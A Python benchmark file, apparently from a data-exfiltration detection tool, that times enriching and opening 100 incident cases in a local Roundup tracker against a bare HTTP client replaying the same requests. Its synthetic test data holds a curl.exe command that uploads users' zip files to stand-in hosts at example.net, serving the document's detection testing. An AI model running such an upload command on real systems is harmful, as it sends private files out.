"""1,000 findings in 100 incidents to 100 enriched cases in a real Roundup, against the bare HTTP calls.

The bare calls are the same requests, sent again by a bare client to another new Roundup: those of an incident one after
the other, as many incidents at once as before. Only the tracker's own numbers and the names of states are put right.
They are those of a careful client: for each case a look-up, the message and the issue, the look-up again; for each of
two files what the issue has, the file, the issue with it, and all three read back. Garbage is looked for as seldom as
the program does, in both.
"""

import asyncio
import json
import random
import re
import tempfile
import time
from collections import defaultdict
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from operator import attrgetter
from pathlib import Path
from typing import Any
from unittest.mock import patch

import httpx

from exfilwatch.config import Settings
from exfilwatch.detection.load import load
from exfilwatch.findings.store import Store
from exfilwatch.rules.packs import FILTERS, pack
from exfilwatch_playbooks.actions.context import Context
from exfilwatch_playbooks.cli.boundary import collect_seldom
from exfilwatch_playbooks.policy import handle

from ..findings.made import START, make  # noqa: TID252 (tests are no package on the path)
from ..servers.roundup import USER, Roundup  # noqa: TID252
from ..servers.unavailable import Unavailable  # noqa: TID252
from .measure import cpu_of
from .render import Process, flat
from .row import Row, Run, at_most

HOSTS, EACH = 100, 10
CLOCK, CPU = attrgetter("clock"), attrgetter("cpu")
AT_ONCE = 4
_NUMBERED = re.compile(r"/(issue|msg|file)(/?)(\d+)")
_ASKED = re.compile(r"(?<=[?&]id=)\d+")
_NUMBERS = {"messages": "msg", "files": "file", "superseder": "issue"}


@dataclass(frozen=True)
class Call:
    """A request that was sent, and what was answered: its status and, of something new, the number."""

    method: str
    path: str
    headers: dict[str, str]
    body: bytes
    status: int
    number: str | None


@dataclass(frozen=True)
class Took:
    """Seconds by the clock, and of CPU: ours and the tracker's."""

    clock: float
    ours: float
    tracker: float

    @property
    def cpu(self) -> float:
        """Of both."""
        return self.ours + self.tracker

    def __str__(self) -> str:
        return f"{self.clock:.2f} s ({self.ours:.2f} CPU s, the tracker {self.tracker:.2f})"


def cases(asked: Run) -> list[Row]:
    """The least of some rounds for each, in turn."""
    ours, bare = [], []
    collect_seldom()
    try:
        for _ in range(max(1, asked.rounds - 1)):
            with tracker() as roundup:
                took, calls = asyncio.run(opened(roundup))
            ours.append(took)
            with tracker() as roundup:
                bare.append(asyncio.run(repeated(roundup, calls)))
    except Unavailable as error:
        return [Row("cases in Roundup", f"skipped: {str(error)[:100]}")]
    what, requests = f"{HOSTS} cases in Roundup", sum(map(len, calls))
    return [
        Row(f"{what}: the bare calls", f"{min(bare, key=CLOCK)}, {requests:,} requests"),
        Row(f"{what}: enriched and opened", str(min(ours, key=CLOCK))),
        Row(f"{what}: CPU, exfilwatch / bare calls", f"{min(map(CPU, ours)) / min(map(CPU, bare)):.2f}"),
        at_most(f"{what}: exfilwatch / bare calls", min(map(CLOCK, ours)) / min(map(CLOCK, bare)), 1.5, "{:.2f}"),
    ]


@contextmanager
def tracker() -> Iterator[Roundup]:
    """A new Roundup."""
    with tempfile.TemporaryDirectory(prefix="exfilwatch-bench-") as folder:
        Path(folder).chmod(0o755)  # the tracker does not run as root
        home = Path(folder, "roundup")
        home.mkdir()
        running = Roundup(home)
        try:
            running.ready()
            yield running
        finally:
            running.stop()


@contextmanager
def timed(roundup: Roundup) -> Iterator[list[Took]]:
    """What is done meanwhile takes this."""
    took: list[Took] = []
    clock, ours, theirs = time.perf_counter(), time.process_time(), cpu_of(roundup.process.pid)
    yield took
    now = time.perf_counter(), time.process_time(), cpu_of(roundup.process.pid)
    took.append(Took(now[0] - clock, now[1] - ours, now[2] - theirs))


async def opened(roundup: Roundup) -> tuple[Took, list[list[Call]]]:
    """What all takes, and the requests of each incident. Raises RuntimeError when not all was done."""
    url = roundup.url
    with tempfile.TemporaryDirectory(prefix="exfilwatch-bench-") as folder:
        database = str(Path(folder, "store.sqlite"))
        case = {"kind": "roundup", "url": url, "user": USER.user, "password": USER.password, "at_once": AT_ONCE}
        settings = Settings(
            database=database,
            case={"roundup": {**case, "attach": ["evidence", "report"]}},
            policy={"enrich": "informational", "open": "informational"},
        )
        rules = load([pack("exfil"), FILTERS])
        Store(database).save(findings(Path(folder)))
        async with Context(settings, lambda: Store(database), lambda: rules) as context:
            with recorded(url) as calls, timed(roundup) as took:
                done = await handle(context)
                enriched = done.enriched
                if done.errors:  # a busy SQLite refuses now and then: the next run goes on
                    done = await handle(context)
            left = Store(database).pending("roundup")
    if left or enriched != HOSTS:
        raise RuntimeError(f"{enriched} enriched, {len(left)} not opened: {(done.errors + done.problems)[:3]}")
    return took[0], calls


def findings(folder: Path) -> list[Any]:
    """Uploads, found in a file that has the records of them."""
    random.seed(7)
    file = folder / "sysmon.jsonl"
    made = []
    with file.open("wb") as lines:
        for number in range(HOSTS * EACH):
            host, user = f"WS-{number % HOSTS:03d}", f"CORP\\user{number % HOSTS}"
            minute = number // HOSTS * 3
            line = f"curl.exe -T C:\\Users\\anna\\plan-{number}.zip https://files-{number % 7}.example.net/in/{number}"
            image, parent = "C:\\Windows\\System32\\curl.exe", "C:\\Windows\\System32\\cmd.exe"
            at = round(START.timestamp() * 1000) + minute * 60_000
            lines.write(flat(Process(number, at, host, user, 4000 + number, image, line, parent, "cmd.exe")))
            told = {"Image": image, "CommandLine": line, "ParentImage": parent, "ProcessId": str(4000 + number)}
            made.append(make(f"event {number}", minute, host=host, user=user, source=str(file), **told))
    return made


@contextmanager
def recorded(url: str) -> Iterator[list[list[Call]]]:
    """The requests to a tracker, by the task that sends them, in order."""
    calls: dict[int, list[Call]] = defaultdict(list)
    send, found = httpx.AsyncClient.send, list[list[Call]]()

    async def sent(client: httpx.AsyncClient, request: httpx.Request, **options: Any) -> httpx.Response:
        body = await request.aread()
        response = await send(client, request, **options)
        if str(request.url).startswith(url) and response.is_success:  # a busy SQLite refuses now and then
            path = str(request.url).removeprefix(url)
            number = _data(response).get("id") if request.method == "POST" else None
            kept = Call(request.method, path, dict(request.headers), body, response.status_code, number)
            calls[id(asyncio.current_task())].append(kept)
        return response

    with patch.object(httpx.AsyncClient, "send", sent):
        yield found
    found += calls.values()


async def repeated(roundup: Roundup, calls: list[list[Call]]) -> Took:
    """What it takes a bare client to send the same to another tracker."""
    at_once = asyncio.Semaphore(AT_ONCE)
    site = httpx.URL(roundup.url)
    async with httpx.AsyncClient(timeout=60, trust_env=False) as client:

        async def one(chain: list[Call]) -> None:
            numbers: dict[tuple[str, str], str] = {}
            states: dict[str, str] = {}
            async with at_once:
                for call in chain:
                    await _again(client, site, call, numbers, states)

        with timed(roundup) as took:
            await asyncio.gather(*map(one, calls))
        return took[0]


async def _again(
    client: httpx.AsyncClient, site: httpx.URL, call: Call, numbers: dict[tuple[str, str], str], states: dict[str, str]
) -> None:
    def renumbered(kind: str, number: str) -> str:
        return numbers.get((kind, number), number)

    path = _NUMBERED.sub(lambda match: f"/{match[1]}{match[2]}{renumbered(match[1], match[3])}", call.path)
    kind = path.removeprefix("/rest/data/").partition("?")[0]
    path = _ASKED.sub(lambda match: renumbered(kind, match[0]), path)
    body = call.body
    if call.headers.get("content-type") == "application/json":
        told = json.loads(body)
        for name in _NUMBERS.keys() & told.keys():
            told[name] = [renumbered(_NUMBERS[name], each) for each in told[name]]
        body = json.dumps(told).encode()
    left_out = ("host", "content-length", "if-match", "origin")
    headers = {name: value for name, value in call.headers.items() if name not in left_out}
    headers["origin"] = f"{site.scheme}://{site.netloc.decode()}"
    if "if-match" in call.headers:
        headers["if-match"] = states[path.partition("?")[0]]
    for _ in range(3):
        response = await client.request(call.method, f"{site}{path}", headers=headers, content=body)
        if response.is_success:
            break
    if response.status_code != call.status:
        raise RuntimeError(f"{call.method} {path} answered {response.status_code}, not {call.status}: {response.text}")
    data = _data(response)
    if call.number:
        numbers[kind, call.number] = data["id"]
    if "@etag" in data:
        states[path.partition("?")[0]] = data["@etag"]


def _data(response: httpx.Response) -> dict[str, Any]:
    if not response.headers.get("content-type", "").startswith("application/json"):
        return {}
    data: dict[str, Any] = json.loads(response.content).get("data", {})
    return data
